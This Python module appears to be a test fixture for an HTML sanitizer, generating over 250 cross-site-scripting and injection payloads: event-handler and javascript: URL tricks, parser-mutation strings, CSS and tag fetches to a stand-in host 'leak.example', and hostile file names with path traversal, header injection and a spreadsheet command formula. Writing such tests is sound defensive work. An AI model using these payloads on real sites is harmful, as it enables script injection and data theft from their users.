"""What people send who want our pages to act for them: over 250 pieces of HTML, SVG, CSS and Unicode.

Each tries to run `ACT`, which would name the page "owned" and open a dialogue, or to have something
fetched from `LEAK`.
"""

# ruff: noqa: E501
from __future__ import annotations

from itertools import product

ACT = "document.title='owned';alert(1)"
LEAK = "https://leak.example"

_BY_ITSELF = {
    "onerror": ["img src=x", "img srcset=x", "audio src=x", "video src=x", "script src=x", "object data=x",
                "input type=image src=x", "image src=x", "video><source src=x", "embed src=x"],
    "onload": ["body", "svg", "iframe src=/", "style", "link rel=stylesheet href=/", "img src=/favicon.ico",
               "svg><image href=/favicon.ico", "frameset"],
    "onfocus": ["input autofocus", "select autofocus", "textarea autofocus", "button autofocus", "a href=# id=f autofocus",
                "div tabindex=1 autofocus", "body autofocus", "keygen autofocus", "p contenteditable autofocus"],
    "ontoggle": ["details open", "details open><summary>x</summary", "div popover"],
    "onbegin": ["svg><animate attributeName=x dur=1s", "svg><set attributeName=x begin=0s",
                "svg><animateTransform attributeName=x dur=1s"],
    "onstart": ["marquee", "marquee loop=1"],
    "onfinish": ["marquee loop=1 width=0"],
    "onanimationstart": ["p style=animation-name:x", "style>@keyframes x{}</style><b style=animation:x"],
    "ontransitionend": ["p style=transition:color 1ms;color:red"],
    "oncanplay": ["video src=data:video/mp4;base64,AAAA", "audio src=data:audio/wav;base64,AAAA"],
    "onloadstart": ["video src=x", "audio src=x", "img src=x"],
    "onpageshow": ["body"],
    "onhashchange": ["body"],
    "onresize": ["body"],
    "onscroll": ["body", "div style=overflow:scroll"],
    "oninvalid": ["form><input required autofocus"],
    "onsecuritypolicyviolation": ["img src=//x"],
}  # fmt: skip
_WRITTEN = [
    "{tag} {event}={act}",
    '{tag} {event}="{act}"',
    "{tag} {EVENT}='{quoted}'",
    "{tag}/{event}={act}//",
]
_LINKS = [
    "javascript:{act}", "JaVaScRiPt:{act}", " javascript:{act}", "java\tscript:{act}", "java\nscript:{act}",
    "java&#10;script:{act}", "&#106;avascript:{act}", "&#x6A;&#x61;vascript:{act}", "javascript&colon;{act}",
    "jav&#x09;ascript:{act}", "\x01javascript:{act}", "\u00a0javascript:{act}", "javascript://%0a{act}",
    "data:text/html,<script>{act}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", "view-source:javascript:{act}", "blob:{act}", "filesystem:{act}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{quoted}'/>",
]  # fmt: skip
_PLACES = [
    "<iframe src='{link}'></iframe>", "<form action='{link}'><input type=submit autofocus></form>",
    "<object data='{link}'></object>", "<embed src='{link}'>", "<meta http-equiv=refresh content='0;url={link}'>",
    "<svg><use href='{link}#x'/></svg>", "<math href='{link}'>x</math>",
]  # fmt: skip
_MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={act}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={act}>'>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={act}>",
    "<svg><desc><style></desc><img src=x onerror={act}>", "<svg><title><img src=x onerror={act}></title></svg>",
    "<template><img src=x onerror={act}></template>", "<textarea><img src='</textarea><img src=x onerror={act}>'>",
    "<title><img src='</title><img src=x onerror={act}>'>", "<xmp><img src='</xmp><img src=x onerror={act}>'>",
    "<!--><img src=x onerror={act}>-->", "<!-- --!><img src=x onerror={act}> -->", "<![CDATA[<img src=x onerror={act}>]]>",
    "<svg><![CDATA[><img src=x onerror={act}>]]></svg>", "<?xml version='1.0'?><img src=x onerror={act}>",
    "<<img src=x onerror={act}>>", "<img src=x onerror={act}", "<img \x00src=x onerror={act}>", "<im\x00g src=x onerror={act}>",
    "<img src=`x` onerror={act}>", "<img/src=x/onerror={act}>", "<img\x0csrc=x\x0conerror={act}>", "<svg/onload={act}//",
    "<script>{act}</script>", "<ScRiPt >{act}</sCrIpT >", "<script/x>{act}</script>", "<scr<script>ipt>{act}</scr</script>ipt>",
    "<script\x0c>{act}</script>", "<svg><script>{act}</script></svg>", "<svg><script href='data:,{act}'/></svg>",
    "<math><script>{act}</script></math>", "<iframe srcdoc='<script>top.{act}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{act}&lt;/script&gt;'></iframe>", "<select><script>{act}</script></select>",
    "<table><script>{act}</script></table>", "<style><script>{act}</script></style>", "+ADw-script+AD4-{act}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{act}\uff1c/script\uff1e", "\u2028<script>{act}</script>", "<a href='#' onclick='{quoted}' autofocus>x</a>",
    "<img name=body><img name=title>", "<form id=forms><input name=action></form>", "<a id=htmx><a id=htmx name=config href='x:y'>",
    "<div hx-get='/afmelden' hx-trigger=load>x</div>", "<div data-hx-on:load='{quoted}'>x</div>",
    "<div hx-on::load='{quoted}' hx-trigger=load>x</div>", "<button data-key=Enter data-opens=keys>x</button>",
    "<dialog open><form method=dialog><button autofocus>x</button></form></dialog>",
    "{{{{ constructor.constructor('{quoted}')() }}}}", "${{{act}}}", "{{% debug %}}", "'\"><img src=x onerror={act}>",
    "</textarea><script>{act}</script>", "</title><script>{act}</script>", "</style><script>{act}</script>", "--><script>{act}</script>",
]  # fmt: skip
_FETCHING = [
    "<img src={leak}/a.png>", "<img srcset='{leak}/b.png 2x'>", "<picture><source srcset={leak}/c.png><img src=x></picture>",
    "<link rel=stylesheet href={leak}/d.css>", "<link rel=prefetch href={leak}/e>", "<link rel=dns-prefetch href={leak}>",
    "<link rel=preconnect href={leak}>", "<link rel=icon href={leak}/f.ico>", "<link rel=preload as=image href={leak}/g>",
    "<style>@import '{leak}/h.css';</style>", "<style>p{{background:url({leak}/i)}}</style>", "<p style=\"background:url('{leak}/j')\">x</p>",
    "<p style='background-color:red;background-image:url({leak}/k)'>x</p>", "<p style='list-style:url({leak}/l)'>x</p>",
    "<p style='content:url({leak}/m)'>x</p>", "<p style='cursor:url({leak}/n),auto'>x</p>", "<p style='b\\61ckground:u\\72l({leak}/o)'>x</p>",
    "<p style='background:image-set(\"{leak}/p\" 1x)'>x</p>", "<p style='border-image:url({leak}/q) 1'>x</p>",
    "<p style='-webkit-mask:url({leak}/r)'>x</p>", "<p style='filter:url({leak}/s#x)'>x</p>", "<p style='--x:url({leak}/t);background:var(--x)'>x</p>",
    "<style>@font-face{{font-family:x;src:url({leak}/u)}}p{{font-family:x}}</style><p>x</p>", "<body background={leak}/v>",
    "<table background={leak}/w><tr><td background={leak}/x>x</table>", "<video poster={leak}/y></video>", "<video src={leak}/z autoplay></video>",
    "<audio src={leak}/aa autoplay></audio>", "<object data={leak}/ab></object>", "<embed src={leak}/ac>", "<iframe src={leak}/ad></iframe>",
    "<svg><image href={leak}/ae /></svg>", "<svg><image xlink:href={leak}/af /></svg>", "<svg><use href={leak}/ag#x /></svg>",
    "<svg><feImage href={leak}/ah /></svg>", "<svg><foreignObject><img src={leak}/ai></foreignObject></svg>", "<input type=image src={leak}/aj>",
    "<meta http-equiv=refresh content='0;url={leak}/ak'>", "<base href={leak}/><img src=al>", "<script src={leak}/am></script>",
    "<img src='//leak.example/an'>", "<img src='\\\\leak.example\\ao'>", "<img src='/\\leak.example/ap'>", "<img src='https:leak.example/aq'>",
    "<img lowsrc={leak}/ar dynsrc={leak}/as>", "<track src={leak}/at default>", "<form action={leak}/au id=f></form><button form=f autofocus>x</button>",
    "<a href={leak}/av ping={leak}/aw>x</a>", "<blockquote cite={leak}/ax>x</blockquote>", "<html manifest={leak}/ay>",
    "<frameset><frame src={leak}/az></frameset>", "<img src=x crossorigin attributionsrc={leak}/ba>",
]  # fmt: skip
NAMES = [
    "factuur\u202efdp.exe", "a\u200bb\u200cc\ufeff", "\u2066\u2067\u2068naam\u2069", "e\u0301" * 60, "\u0301" * 300, "\U000e0041\U000e0042",
    "\U0001f600" * 200, "../../../../etc/passwd", "..\\..\\boot.ini", "CON", "a\r\nSet-Cookie: x=1", "a\x00.png",
    ".htaccess", "%2e%2e%2f", "a" * 5000, "<!--", "]]>", "&lt;script&gt;", "\u0130\u0131\u017f\u212a", "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)",
]  # fmt: skip


def html() -> list[str]:
    """Every piece, each once."""
    by_itself = [
        f"<{form.format(tag=tag, event=event, EVENT=event.upper(), act=ACT, quoted=_quoted())}>"
        for number, (event, tag) in enumerate(
            (event, tag) for event, tags in _BY_ITSELF.items() for tag in tags
        )
        for form in (_WRITTEN[number % len(_WRITTEN)], _WRITTEN[(number + 1) % len(_WRITTEN)])
    ]
    links = [each.format(act=ACT, quoted=_quoted()) for each in _LINKS]
    clicked = [f'<a href="{each}">klik</a>' for each in links]
    opened = [
        place.format(link=link) for place, link in product(_PLACES, links[:8:2] + links[13:15])
    ]
    mutated = [each.format(act=ACT, quoted=_quoted()) for each in _MUTATIONS]
    fetching = [each.format(leak=LEAK) for each in _FETCHING]
    return list(dict.fromkeys([*by_itself, *clicked, *opened, *mutated, *fetching]))


def _quoted() -> str:
    return ACT.replace("'", "&#39;")
